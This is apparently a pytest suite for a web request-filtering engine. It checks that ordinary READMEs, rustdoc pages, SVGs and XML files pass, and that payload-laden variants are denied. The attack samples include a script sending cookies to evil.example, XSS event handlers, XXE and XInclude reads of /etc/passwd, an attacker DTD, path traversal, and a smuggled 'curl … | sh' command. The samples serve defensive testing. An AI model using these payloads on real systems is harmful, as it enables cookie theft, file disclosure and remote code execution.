"""Hard negatives: documents APIs receive, through the whole engine (default config).

A README posted to an issue tracker, a reStructuredText package description, a
rustdoc page in a rich-text field, an SVG from a drawing tool, a gdb target
description, a Maven site descriptor: each is ordinary traffic full of syntax
(code spans, relative links, DOCTYPEs, XIncludes). Every one must be allowed;
the same documents carrying a payload must still be denied. (The measured side
is bench/document_corpus.py.)
"""
import json
from urllib.parse import urlencode

import pytest

from extauthz.config import parse_config
from extauthz.engine import Engine
from extauthz.request import Request

# A generous detector budget: these tests are about what the detectors judge; how long
# they take on a 16 KiB document is bench/document_corpus.py's (limit.detect-time) to measure.
ENGINE = Engine(parse_config("limits:\n  detect_budget_ms: 1000\n"))
PROSE = "This package provides a small library for parsing configuration files.\n" * 3

README = PROSE + """
## Install

To install, type `python setup.py install` or `pip install widget`.
See [Building](../../../BUILDING.md) and ``setup.cfg`` for options; `make` and `gcc` are needed.

```bash
cd widget
```

.. note::

   The `find foo -print' syntax moved. Add this to your startup file::

       export WIDGET_HOME=~/widget
"""

RUSTDOC = ("""<a class="skip-main-content" href="#main-content">Skip to main content</a><rustdoc-topbar>"""
           """<h2><a href="#">symlink_file</a></h2></rustdoc-topbar><nav class="sidebar"><a class="logo-container" """
           """href="../../../../std/index.html"><img class="rust-logo" src="../../../../static.files/rust-logo.svg" """
           """alt="logo"></a><div class="version">(e50aa6fba\t2026-05-19)</div><ul><li><a href="querystring.html" """
           """class="nav-querystring">Query strings</a></li>\n<li><a href="child_process.html" """
           """class="nav-child_process">Child processes</a></li></ul></nav>\n<main><h1>Function symlink_file</h1>"""
           """<pre class="rust"><span class="kw">pub fn </span>write(output: &amp;<span class="kw">mut dyn</span> """
           """Write)&nbsp;<button id="copy-path" title="Copy item path to clipboard">Copy item path</button></pre>"""
           """<p>Basic usage:</p>\n\n<div class="example-wrap"><pre>x</pre></div></main>""")

SVG = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<!-- Created with Inkscape -->

<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="16" height="16">
  <use xlink:href="../icons.svg#arrow"/><path d="M1 1h14v14H1z" style="fill:#2e3436"/>
</svg>
"""

GDB_TARGET = """<?xml version="1.0"?>
<!-- Copyright (C) 2010-2024 Free Software Foundation, Inc.

     Copying and distribution of this file, with or without modification,
     are permitted in any medium without royalty provided the copyright
     notice and this notice are preserved.  -->

<!DOCTYPE target SYSTEM "gdb-target.dtd">
<target>
  <architecture>i386:x86-64</architecture>
  <xi:include href="64bit-core.xml"/>
  <xi:include href="64bit-sse.xml"/>
</target>
"""

MAVEN_SITE = """<?xml version="1.0" encoding="UTF-8"?>
<project name="Maven">
  <bannerLeft><name>Maven</name><src>https://maven.apache.org/images/apache-maven-project.png</src>
    <href>https://maven.apache.org/</href></bannerLeft>
</project>
"""


def json_post(doc: dict, path: str = "/api/issues", method: str = "POST") -> Request:
    return Request(method=method, path=path, body=json.dumps(doc).encode(),
                   headers={"content-type": ("application/json",)})


def form_post(fields: dict, path: str = "/wiki/pages") -> Request:
    return Request(method="POST", path=path, body=urlencode(fields).encode(),
                   headers={"content-type": ("application/x-www-form-urlencoded",)})


def xml_post(text: str) -> Request:
    return Request(method="POST", path="/api/import", body=text.encode(),
                   headers={"content-type": ("application/xml",)})


def upload(name: str, ctype: str, text: str) -> Request:
    b = "----docBoundary"
    body = (f'--{b}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
            f"Content-Type: {ctype}\r\n\r\n{text}\r\n--{b}--\r\n")
    return Request(method="POST", path="/api/files", body=body.encode(),
                   headers={"content-type": (f"multipart/form-data; boundary={b}",)})


def decide(request: Request) -> tuple[str, list]:
    v = ENGINE.check(request)
    return v.decision.value, [(f.rule, f.severity.name, f.location) for f in v.findings]


BENIGN = {
    "readme-json": json_post({"title": "Widget", "body": README}),
    "readme-form": form_post({"title": "Widget", "body": README}),
    "rustdoc-richtext-json": json_post({"title": "Page", "content_html": RUSTDOC}, "/api/pages/1", "PUT"),
    "rustdoc-richtext-form": form_post({"title": "Page", "content": RUSTDOC}, "/cms/save"),
    "svg-body": xml_post(SVG),
    "svg-upload": upload("arrow.svg", "image/svg+xml", SVG),
    "gdb-target-body": xml_post(GDB_TARGET),
    "gdb-target-upload": upload("amd64.xml", "application/xml", GDB_TARGET),
    "maven-site": xml_post(MAVEN_SITE),
}


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_documents_are_allowed(name):
    decision, findings = decide(BENIGN[name])
    assert decision == "allow", findings


ATTACKS = {
    "rich-text-with-script": json_post({"title": "Page", "content_html": RUSTDOC.replace(
        "<p>Basic usage:</p>", "<p>Basic usage:</p><script>fetch('//evil.example/?c='+document.cookie)</script>")},
        "/api/pages/1", "PUT"),
    "rich-text-with-handler": form_post({"content": RUSTDOC.replace('alt="logo"', 'alt="logo" onerror="alert(1)"')},
                                        "/cms/save"),
    "svg-with-external-entity": upload("a.svg", "image/svg+xml", SVG.replace(
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
        .replace("</svg>", "<text>&x;</text></svg>")),
    "svg-with-attacker-dtd": xml_post(SVG.replace("http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd",
                                                  "http://evil.example/svg11.dtd")),
    "svg-with-onload": upload("a.svg", "image/svg+xml", SVG.replace('width="16"', 'onload="alert(1)" width="16"')),
    "xinclude-of-a-system-file": xml_post(GDB_TARGET.replace(
        '<xi:include href="64bit-sse.xml"/>', '<xi:include href="/etc/passwd" parse="text"/>')),
    "relative-dtd-with-entity": xml_post('<!DOCTYPE x SYSTEM "test.dtd"><x>&x;</x>'),
    "readme-with-substitution-payload": json_post({"title": "x", "body": README.replace(
        "cd widget", "cd widget; curl http://1.2.3.4/x.sh | sh")}),
    "link-to-a-system-file": json_post({"body": RUSTDOC.replace("../../../../std/index.html", "../../../../etc/passwd")}),
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_the_same_documents_with_a_payload_are_denied(name):
    decision, findings = decide(ATTACKS[name])
    assert decision == "deny", findings
